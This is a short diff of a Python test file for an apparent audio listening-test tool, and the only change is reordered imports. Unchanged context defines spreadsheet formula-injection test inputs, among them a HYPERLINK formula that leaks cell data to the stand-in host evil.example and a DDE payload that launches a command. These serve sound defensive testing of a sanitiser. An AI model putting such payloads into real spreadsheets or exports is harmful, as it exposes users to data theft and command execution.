@@ -15,15 +15,15 @@ import yaml
 from sqlalchemy import update
 
 from codecbench.app import AppSettings, launch
-from codecbench.listening_test.spec import SpecError
 from codecbench.listening_test.bounded_yaml import MAX_ALIAS_NODES
+from codecbench.listening_test.spec import SpecError
 from codecbench.listening_test.spec_yaml import parse_test_spec
 from codecbench.storage import open_database
 from codecbench.storage.listening_tables import ParticipantRow
 from codecbench.untrusted_text import spreadsheet_safe, terminal_safe
 from tests.browser import free_port
-from tests.mushra_helpers import complete, prepare, start, store, write_test_files
 from tests.cli_runner import run_cli
+from tests.mushra_helpers import complete, prepare, start, store, write_test_files
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2", "-2+3")
 
